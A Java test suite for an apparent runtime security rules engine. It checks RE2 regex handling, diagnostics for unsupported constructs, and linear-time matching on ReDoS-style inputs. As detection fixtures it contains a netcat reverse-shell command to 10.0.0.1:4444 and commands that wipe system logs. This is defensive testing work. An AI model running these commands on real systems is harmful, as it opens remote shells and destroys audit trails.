package dev.vigil.rules;

import static dev.vigil.rules.DefaultRulesFixture.ALL;
import static dev.vigil.rules.DefaultRulesFixture.proc;
import static dev.vigil.rules.RuleTestKit.compile;
import static dev.vigil.rules.RuleTestKit.matches;
import static dev.vigil.rules.RuleTestKit.withCode;
import static dev.vigil.rules.lang.DiagnosticCode.VR119;
import static dev.vigil.rules.lang.DiagnosticCode.VR121;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.event.Event;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Rules match with RE2 (linear time): the built-in rules keep their meaning under RE2's syntax, the hostile values
 * of issue 11 are matched in milliseconds, and constructs RE2 lacks are refused at load, located and named.
 */
class Re2RegexTest {

  private static final String HISTORY_CLEARED = "Shell history or logs cleared in container";

  private static String oneRule(String condition) {
    return """
        - rule: r
          desc: d
          condition: %s
          output: out
          priority: WARNING
        """.formatted(condition);
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "(a)\\1|a backreference|`\\1` at offset 3",
      "a(?=b).*|a lookahead|`(?=` at offset 1",
      "a(?!b).*|a negative lookahead|`(?!` at offset 1",
      "(?<=a)b|a lookbehind|offset 0",
      "(?<!a)b|a negative lookbehind|offset 0",
      "(?>ab)c|an atomic group|`(?>` at offset 0",
      "a*+b|a possessive quantifier|`*+` at offset 1",
      "(a+)++|a possessive quantifier|`++` at offset 4",
      "a\\Z|the end-of-input anchor \\Z|`\\Z` at offset 1",
      "\\p{Alpha}+|a Java character class|offset 0",
      "a{1001}|a repeat count over 1,000|`{1001}` at offset 1",
      "(?x)a b|a flag RE2 does not have|`(?x` at offset 0"})
  void unsupportedConstruct_isVR121_namedWithItsOffset_atTheValue(String re, String construct, String where) {
    // In a quoted condition value a backslash is written twice.
    String yaml = oneRule("proc.name = sh and proc.cmdline regex '" + re.replace("\\", "\\\\") + "'");
    LoadResult r = compile(yaml);

    List<Diagnostic> found = withCode(r, VR121);
    assertThat(found).as(r.diagnostics().toString()).hasSize(1);
    Diagnostic d = found.get(0);
    assertThat(d.isError()).isTrue();
    assertThat(d.message()).contains(construct).contains(where).contains("RE2 does not support");
    String conditionLine = yaml.lines().toList().get(2);
    assertThat(d.file() + ":" + d.pos()).isEqualTo("t.yaml:3:" + (conditionLine.indexOf('\'') + 1));
    assertThat(withCode(r, VR119)).isEmpty();
  }

  @Test
  void patternInvalidForEveryEngine_isVR119_notVR121() {
    LoadResult r = compile(oneRule("proc.cmdline regex '[z-a]'"));
    assertThat(withCode(r, VR119)).singleElement().satisfies(d -> assertThat(d.message()).contains("[z-a]"));
    assertThat(withCode(r, VR121)).isEmpty();
  }

  @Test
  void globWithBracketSetRe2Refuses_isVR119() {
    LoadResult r = compile(oneRule("fd.name glob '/etc/[z-a]*'"));
    assertThat(withCode(r, VR119)).singleElement().satisfies(d -> assertThat(d.message()).contains("invalid glob"));
  }

  @Test
  void builtInRegexRules_keepTheirMatches_underRe2() {
    assertThat(matches(ALL, proc("sh", "-c", "echo > /var/log/auth.log").build())).contains(HISTORY_CLEARED);
    assertThat(matches(ALL, proc("sh", "-c", "ls; cat /dev/null >/var/log/syslog").build())).contains(HISTORY_CLEARED);
    assertThat(matches(ALL, proc("sh", "-c", "ls /var/log/").build())).doesNotContain(HISTORY_CLEARED);
    assertThat(matches(ALL, proc("nc", "-e", "/bin/sh", "10.0.0.1", "4444").build()))
        .anyMatch(n -> n.toLowerCase(java.util.Locale.ROOT).contains("netcat"));
    assertThat(matches(ALL, proc("nc", "-l", "-p", "4444").build()))
        .noneMatch(n -> n.toLowerCase(java.util.Locale.ROOT).contains("netcat"));
  }

  @Test
  void hostileArgvOfTheIssue_matchesInLinearTime() {
    Event spaces = proc("sh", ";" + " ".repeat(100_000) + "/var/log/").build();
    long t0 = System.nanoTime();
    for (int i = 0; i < 3; i++) {
      assertThat(matches(ALL, spaces)).doesNotContain(HISTORY_CLEARED);
    }
    long perEvent = (System.nanoTime() - t0) / 3;
    // java.util.regex took about 30 s per event on this value (issue 11); RE2 is linear in its 100 KB.
    assertThat(perEvent).as("ns per hostile event").isLessThan(2_000_000_000L);
  }

  @Test
  void nestedQuantifierUserRule_isLinearUnderRe2() {
    LoadResult r = compile(oneRule("proc.args regex \"(a+)+$\""));
    assertThat(r.diagnostics()).noneMatch(Diagnostic::isError);
    Event hostile = proc("x", "a".repeat(100_000) + "!").build();
    Event benign = proc("x", "a".repeat(1_000)).build();
    long t0 = System.nanoTime();
    assertThat(matches(r, hostile)).isEmpty();
    long took = System.nanoTime() - t0;
    assertThat(matches(r, benign)).containsExactly("r");
    assertThat(took).as("ns for (a+)+$ on 100,000 a and '!'").isLessThan(2_000_000_000L);
  }
}
